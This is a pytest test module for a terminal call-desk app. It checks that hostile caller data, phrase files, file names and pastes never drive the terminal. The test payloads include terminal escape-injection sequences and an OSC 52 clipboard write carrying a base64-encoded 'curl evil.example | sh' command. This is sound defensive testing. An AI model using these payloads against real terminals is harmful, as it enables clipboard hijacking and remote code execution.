"""Proof from the terminal's side: hostile caller data never reaches the terminal as controls.

The real `python -m calldesk` runs on a pseudo-terminal. The softphone hooks (real
`calldesk ring/answer/hangup` processes, over the app's socket) bring a caller whose name and
number carry OSC 52 (clipboard), OSC 0 (window title), CSI (clear, colour), RIS, C1 controls,
bidi controls and line separators; a trainer's phrase file and its file name, a paste, the
export folder and the notes carry the same. The agent answers, takes notes, edits and deletes
one, hangs up, gives the outcome, fills the checklist, opens history, exports, and looks at the
fixes and the phrase problems. Every byte written to the terminal is then scanned.

Textual writes its own escape sequences (SGR colours, cursor moves, modes, OSC 22 pointer
shapes), so the scan does not forbid ESC. It forbids what only the payload could bring: any OSC
but Textual's pointer shape (so no OSC 52 and no window title at all), RIS, the payload's CSI
with the marker glued in front, raw C1 code points, bidi controls and line separators anywhere
in the decoded stream, and any control sequence whose bytes contain a payload marker. The
escaped payload must be on the screen as text: shown, not dropped.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from tests.pty_app import PtyApp

from calldesk.cli.softphone import EXIT_DELIVERED, EXIT_KEPT
from calldesk.core.phone.spool import pending_file_path
from calldesk.core.textsafe import BIDI_CONTROLS, has_hidden
from calldesk.tui.phone import TYPING_PAUSE

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pseudo-terminal")

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
# Each piece starts with a marker, so an injected sequence would sit right after its marker.
PAYLOAD = (
    f"MKA\x1b]52;c;{CLIPBOARD}\x07"
    "MKB\x1b]0;MKTITLE\x07"
    "MKC\x1b[2J\x1b[H"
    "MKD\x1b[41;1;5m"
    "MKE\x1bc"
    "MKF\x9b31m\x9d52;c;QQ==\x9c"
    "MKG\u202eMKH\u2066\u200fMKI\u2028MKJ\x85MKK"
)
INJECTED = [
    b"MKA\x1b]52",
    b"MKB\x1b]0",
    b"MKC\x1b[2J",
    b"MKD\x1b[41",
    b"MKE\x1bc",
    b"\x1b[41;1;5m",  # Rich writes attributes before colours: never this order
    b"\x1bc",  # RIS: Textual never resets the terminal
]
KEYS = {
    "f3": "\x1bOR",
    "f5": "\x1b[15~",
    "f7": "\x1b[18~",
    "f10": "\x1b[21~",
    "up": "\x1b[A",
    "down": "\x1b[B",
    "shift+tab": "\x1b[Z",
    "tab": "\t",
    "enter": "\r",
    "escape": "\x1b",
    "space": " ",
    "delete": "\x1b[3~",
    "ctrl+p": "\x10",
    "ctrl+q": "\x11",
    "ctrl+s": "\x13",
}
# ESC-introduced sequences: CSI, OSC (BEL or ST ended), DCS/APC/PM/SOS,
# and two-byte escapes (ESC 7, ESC =, ...).
SEQUENCE = re.compile(
    rb"\x1b\[[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]"
    rb"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # unterminated too: it swallows what follows
    rb"|\x1b[P_^X][^\x1b]*\x1b\\"
    rb"|\x1b[\x20-\x2f]*[\x30-\x7e]"
)
OWN_OSC = re.compile(rb"\x1b\]22;[a-z-]+\x07")  # Textual's pointer shape


class Session:
    """calldesk on a pty, every byte it writes kept, and its softphone hooks run for real."""

    def __init__(self, env: dict[str, str], args: tuple[str, ...]) -> None:
        self.env = {**os.environ, **env}
        self.app = PtyApp(env, args=args)
        self.raw = bytearray()
        feed = self.app.stream.feed

        def record(data: bytes) -> None:
            self.raw.extend(data)
            feed(data)

        self.app.stream.feed = record  # type: ignore[method-assign]

    def keys(self, *names: str) -> None:
        for name in names:
            os.write(self.app.master, KEYS.get(name, name).encode())
            self.app.pump(0.15)

    def type(self, text: str) -> None:
        self.app.type(text, per_key=0.02)

    def paste(self, text: str) -> None:
        os.write(self.app.master, b"\x1b[200~" + text.encode() + b"\x1b[201~")
        self.app.pump(0.2)

    def wait_for(self, needle: str, timeout: float = 20.0) -> None:
        assert self.app.wait_for(needle, timeout), f"no {needle!r} on screen:\n{self.app.text()}"

    def wait_gone(self, needle: str, timeout: float = 20.0) -> None:
        deadline = time.monotonic() + timeout
        while needle in self.app.text():
            assert time.monotonic() < deadline, f"{needle!r} stays:\n{self.app.text()}"
            self.app.pump(0.1)

    def hook(self, *args: str) -> None:
        result = subprocess.run(
            [sys.executable, "-m", "calldesk", *args],
            env=self.env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        if result.returncode == EXIT_KEPT and "takes it from there" in result.stderr:
            # No answer within the hook's 250 ms on a busy machine: kept in the spool, as
            # designed. Go on once calldesk has taken it, as the next event would on a phone.
            data_dir = Path(self.env["XDG_DATA_HOME"]) / "calldesk"
            spool = pending_file_path(data_dir)
            deadline = time.monotonic() + 30
            while spool.exists() and spool.stat().st_size:
                assert time.monotonic() < deadline, "calldesk never took the spool"
                self.app.pump(0.05)
            return
        assert result.returncode == EXIT_DELIVERED, result.stderr

    def quit(self) -> None:
        self.app.quit()
        self.app.kill()


def assert_nothing_injected(raw: bytes, screens: list[str]) -> None:
    """The scan described in the module docstring, over the whole session."""
    decoded = raw.decode("utf-8")  # Textual writes UTF-8; a raw C1 byte would not decode
    c1 = sorted({f"U+{ord(c):04X}" for c in decoded if 0x80 <= ord(c) <= 0x9F})
    assert not c1, f"C1 controls reached the terminal: {c1}"
    bidi = sorted({f"U+{ord(c):04X}" for c in decoded if ord(c) in BIDI_CONTROLS})
    assert not bidi, f"bidi controls reached the terminal: {bidi}"
    assert "\u2028" not in decoded and "\u2029" not in decoded
    sequences = [match.group() for match in SEQUENCE.finditer(raw)]
    oscs = [seq for seq in sequences if seq.startswith(b"\x1b]")]
    foreign = [seq for seq in oscs if not OWN_OSC.fullmatch(seq)]
    assert not foreign, f"OSC that calldesk did not write (clipboard, title): {foreign[:5]}"
    with_marker = [seq for seq in sequences if b"MK" in seq]
    assert not with_marker, f"control sequences carrying the payload: {with_marker[:5]}"
    for piece in INJECTED:
        assert piece not in raw, f"{piece!r} reached the terminal"
    # Control bytes outside sequences: only the line ends and the bell Textual writes itself.
    rest = SEQUENCE.sub(b"", raw)
    stray = sorted({f"0x{b:02x}" for b in rest if b < 0x20 and b not in b"\r\n\x07\x08"})
    assert not stray, f"stray control bytes: {stray}"
    # Shown, not dropped: the escaped form of the payload was on the screen.
    seen = "\n".join(screens)
    for shown in ("MKA\\x1b]52;c;", "MKB\\x1b]0;MKTITLE\\x07", "MKG\\u202eMKH"):
        assert shown in seen, f"{shown!r} never shown"


@pytest.fixture
def hostile_env(private_dirs: Path, socket_path: Path) -> Iterator[tuple[dict[str, str], Path]]:
    team = private_dirs / "team"
    team.mkdir()
    (team / "hostile.yaml").write_text(
        "category: " + json.dumps("Cat " + PAYLOAD) + "\nphrases:\n"
        "  - id: hostile\n"
        "    title: " + json.dumps("zzhostile " + PAYLOAD) + "\n"
        "    say: " + json.dumps("Say " + PAYLOAD) + "\n",
        encoding="utf-8",
    )
    # A broken file whose own name carries a title sequence: the problem quotes the name.
    (team / "broken\x1b]0;MKFILE\x07\u202e.yaml").write_text("phrases: [\n", encoding="utf-8")
    export_dir = private_dirs / "export\x1b]0;MKDIR\x07\u202e"
    env = {
        name: os.environ[name]
        for name in (
            "HOME",
            "XDG_CONFIG_HOME",
            "XDG_DATA_HOME",
            "XDG_RUNTIME_DIR",
            "XDG_CACHE_HOME",
            "XDG_STATE_HOME",
            "TZ",
        )
    }
    env["CALLDESK_EXPORT_DIR"] = str(export_dir)
    yield env, team


@pytest.mark.slow
def test_a_hostile_caller_phrase_file_and_paste_never_drive_the_terminal(
    hostile_env: tuple[dict[str, str], Path],
) -> None:
    env, team = hostile_env
    session = Session(env, ("--no-bundled-phrases", "--phrase-dir", str(team)))
    screens: list[str] = []

    def look() -> None:
        session.app.pump(0.3)
        screens.append(session.app.text())

    try:
        session.wait_for("NO CALL", timeout=30)
        session.wait_for("phrase file problem")  # the broken file, by its name
        look()
        session.hook(
            "ring", "--name", PAYLOAD, "--number", "1001" + PAYLOAD[:40], "--call-id", "c1"
        )
        session.wait_for("RINGING")
        session.hook("answer", "--call-id", "c1")
        session.wait_for("ON CALL")
        look()
        # A phrase goes into the note, which is filed; then edited (saved as it was), and a
        # delete is asked and refused.
        session.keys("f3")
        session.type("zzhostile")
        session.wait_for("MKA\\x1b]52")
        session.keys("enter")
        session.app.pump(0.3)
        look()
        session.keys("enter", "shift+tab", "up", "enter")
        session.wait_for("Edit note")
        look()
        session.keys("ctrl+s")
        session.wait_gone("ctrl+s save · Escape cancel")  # the dialog, not the footer key
        session.keys("delete")
        session.wait_for("Delete this note?")
        look()
        session.keys("escape")
        session.wait_gone("Delete this note?")
        session.keys("escape")
        session.paste("pasted " + PAYLOAD)
        session.keys("enter")
        session.wait_for("pasted")
        look()
        session.app.pump(TYPING_PAUSE + 0.5)  # a pause in the typing: the hangup may ask now
        session.hook("hangup", "--call-id", "c1")
        session.wait_for("How did the call with")
        look()
        session.keys("f", "enter")  # fine, no reason
        session.wait_for("After the call with")
        look()
        session.keys("space", "tab")
        session.type("restarted it")
        session.keys("tab")
        session.type("patch the driver")
        session.keys("ctrl+s")
        session.wait_for("NO CALL")
        session.keys("f7")
        session.wait_for("permanent fixes")
        look()
        session.keys("escape", "f5")
        session.wait_for("History")
        session.wait_for("Outcome: fine")
        look()
        session.keys("f10")
        session.wait_for("Call exported")
        look()
        session.keys("escape", "ctrl+p")
        session.type("show problems")
        session.wait_for("phrases: show problems")  # the palette found the command
        session.keys("enter")
        session.wait_for("1 problem in phrase files")  # one, in the singular
        look()
        session.keys("escape")
        look()
    finally:
        session.quit()
    assert_nothing_injected(bytes(session.raw), screens)
    (exported,) = Path(env["CALLDESK_EXPORT_DIR"]).glob("*.md")
    document = exported.read_text(encoding="utf-8")
    assert not has_hidden(document)
    front = yaml.safe_load(document.split("---\n")[1])
    assert front["caller"] == PAYLOAD  # the export keeps the true value, as YAML escapes


@pytest.mark.slow
def test_a_real_baresip_call_with_a_hostile_display_name_never_drives_the_terminal(
    hostile_env: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    """The issue's "done when": the display name comes over SIP, from a second baresip."""
    if shutil.which("baresip") is None:
        pytest.skip("baresip is not installed (apt-get install baresip-core)")
    from tests.test_baresip_e2e import Control, start_baresip

    env, team = hostile_env
    phones = []
    session = None
    screens: list[str] = []
    try:
        caller = start_baresip(
            tmp_path / "caller", f'"{PAYLOAD}" <sip:1002@127.0.0.1:{{port}}>;regint=0', "1002"
        )
        phones.append(caller)
        callee = start_baresip(
            tmp_path / "callee",
            '"Agent" <sip:agent@127.0.0.1:{port}>;regint=0;answermode=auto',
            "agent",
        )
        phones.append(callee)
        env = {**env, "CALLDESK_BARESIP": f"127.0.0.1:{callee.ctrl_port}"}
        session = Session(env, ("--no-bundled-phrases", "--phrase-dir", str(team)))
        session.wait_for("☎ baresip ", timeout=30)
        control = Control(caller.ctrl_port)
        try:
            assert control.command("dial", callee.uri)["ok"] is True
            session.wait_for("ON CALL")
            session.wait_for("MKA\\x1b]52")
            screens.append(session.app.text())
            assert control.command("hangup")["ok"] is True
        finally:
            control.close()
        session.wait_for("How did the call with")
        screens.append(session.app.text())
        session.keys("f", "enter")
        session.wait_for("After the call with")
        screens.append(session.app.text())
        session.keys("escape", "f5")
        session.wait_for("Outcome: fine")
        screens.append(session.app.text())
        session.keys("f10")
        session.wait_for("Call exported")
        screens.append(session.app.text())
    finally:
        if session is not None:
            session.quit()
        for phone in phones:
            phone.stop()
    assert_nothing_injected(bytes(session.raw), screens)


def test_a_cli_error_quoting_a_hostile_path_shows_it_without_obeying_it(
    private_dirs: Path,
) -> None:
    data_dir = private_dirs / "data\x1b]0;MKDATA\x07\u202e" / "missing"
    result = subprocess.run(
        [sys.executable, "-m", "calldesk", "--data-dir", str(data_dir), "export", "--call", "1"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode != 0
    assert "calldesk: error:" in result.stderr
    assert "data\\x1b]0;MKDATA\\x07\\u202e" in result.stderr
    assert not has_hidden(result.stderr)
